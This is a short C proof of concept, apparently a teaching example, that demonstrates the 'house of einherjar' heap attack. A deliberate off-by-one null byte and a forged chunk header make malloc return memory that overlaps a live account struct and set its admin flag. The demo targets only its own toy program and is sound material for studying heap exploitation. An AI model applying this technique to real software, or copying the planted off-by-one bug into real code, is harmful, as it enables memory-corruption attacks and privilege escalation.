// One zero byte too many: the terminator of a name that just fits ("house of einherjar").
//
// The smallest overflow there is: strcpy into a block of exactly the length of the string. Under allocators that keep
// the size of the next block there, the byte clears the flag "the block before is in use". The last bytes of the name
// say how far back the "free" block begins: over the victim's account, into a forged header in the attacker's draft.
// The attacker gains: malloc gives him the memory of a live account.
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef struct account_s {
  char name[32];
  long is_admin;
} account_t;

static uint64_t* volatile draft;
static account_t* volatile account;
static char* volatile name;
static char* volatile upload;

int main(void) {
  draft = calloc(1, 0x38);
  account = calloc(1, sizeof(account_t));
  name = malloc(0x38);
  upload = malloc(0x4F8);
  void* volatile last = malloc(16);

  uint64_t distance = (uint64_t)(upload - (char*)draft) - 16;
  uint64_t forged[] = {0, distance, (uint64_t)draft, (uint64_t)draft};
  memcpy(draft, forged, sizeof(forged));
  memset(name, 'n', 0x30);
  memcpy(name + 0x30, &distance, 8);
  name[0x38] = 0;  // bug: the terminator of a name of 56 bytes

  free(upload);
  free(name);
  char* message = malloc(0x78);
  memset(message, 'A', 0x78);

  if (account->is_admin == 0) return puts("attack failed: the account is not changed"), free(last), 1;
  printf("ATTACK SUCCEEDED: a message at %p covers the live account at %p; is_admin = %#lx\n", (void*)message,
         (void*)account, (unsigned long)account->is_admin);
  return 0;
}
